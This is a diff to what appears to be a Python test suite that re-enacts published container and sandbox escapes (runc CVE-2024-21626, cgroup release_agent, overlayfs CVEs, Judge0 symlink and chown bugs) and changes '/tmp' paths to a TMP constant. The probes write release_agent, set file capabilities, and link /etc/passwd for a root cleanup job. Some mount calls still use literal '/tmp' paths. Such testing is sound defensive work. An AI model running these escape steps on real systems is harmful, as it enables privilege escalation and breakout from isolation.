@@ -1,6 +1,6 @@
 """Published escapes of this kind of software, each by its number or name: what it did there, tried here."""
 
-from inside import attack, call, check, child_ends, file_roundtrip, in_child, own_memory_reads, proc_is_there, unix_socket_works
+from inside import TMP, attack, call, check, child_ends, file_roundtrip, in_child, own_memory_reads, proc_is_there, unix_socket_works
 
 import ctypes
 import os
@@ -42,7 +42,7 @@ def cve_2024_21626_runc_leaked_folder(facts):
 @attack("reads", proc_is_there)
 def cve_2024_21626_runc_cwd(facts):
     """runc: the working folder itself lay outside."""
-    return os.getcwd() != os.path.realpath("/tmp") and os.getcwd()
+    return os.getcwd() != os.path.realpath(TMP) and os.getcwd()
 
 
 @attack("privilege", file_roundtrip)
@@ -51,10 +51,10 @@ def cve_2022_0492_release_agent(facts):
 
     def run():
         call("unshare", USER | MOUNT | 0x2000000)
-        os.mkdir("/tmp/cg")
+        os.mkdir(TMP + "/cg")
         call("mount", b"cgroup", b"/tmp/cg", b"cgroup", 0, b"rdma")
-        with open("/tmp/cg/release_agent", "w") as file:
-            file.write("/tmp/x")
+        with open(TMP + "/cg/release_agent", "w") as file:
+            file.write(TMP + "/x")
         return 1
 
     return check(in_child(run)) == 1 and "set"
@@ -66,7 +66,7 @@ def release_agent_direct(facts):
     for folder, _, files in os.walk("/sys/fs/cgroup"):
         if "release_agent" in files:
             with open(folder + "/release_agent", "w") as file:
-                file.write("/tmp/x")
+                file.write(TMP + "/x")
             return folder
     raise FileNotFoundError(2, "no release_agent is there")
 
@@ -100,7 +100,7 @@ def cve_2023_0386_overlayfs(facts):
     def run():
         call("unshare", USER | MOUNT)
         for name in ("l", "u", "w", "m"):
-            os.mkdir("/tmp/" + name)
+            os.mkdir(TMP + "/" + name)
         call("mount", b"overlay", b"/tmp/m", b"overlay", 0, b"lowerdir=/tmp/l,upperdir=/tmp/u,workdir=/tmp/w")
         return 1
 
@@ -110,9 +110,9 @@ def cve_2023_0386_overlayfs(facts):
 @attack("privilege", file_roundtrip)
 def cve_2021_3493_overlayfs(facts):
     """Ubuntu's kernel: file capabilities set through an overlay in a user namespace."""
-    os.mkdir("/tmp/c")
-    open("/tmp/c/x", "w").close()
-    os.setxattr("/tmp/c/x", "security.capability", bytes.fromhex("0100000200200000000000000000000000000000"))
+    os.mkdir(TMP + "/c")
+    open(TMP + "/c/x", "w").close()
+    os.setxattr(TMP + "/c/x", "security.capability", bytes.fromhex("0100000200200000000000000000000000000000"))
     return "set"
 
 
@@ -218,7 +218,7 @@ def cve_2024_28185_judge0_symlink(facts):
 @attack("writes", file_roundtrip)
 def cve_2024_28189_judge0_chown(facts):
     """Judge0: chown(1) by root on a link in the sandbox; here: links for whoever cleans up."""
-    os.symlink(facts["open_folder"], "/tmp/cleaned")
+    os.symlink(facts["open_folder"], TMP + "/cleaned")
     os.symlink("/etc/passwd", "/dev/shm/cleaned")
     return None  # what cleaning does is looked at from outside
 
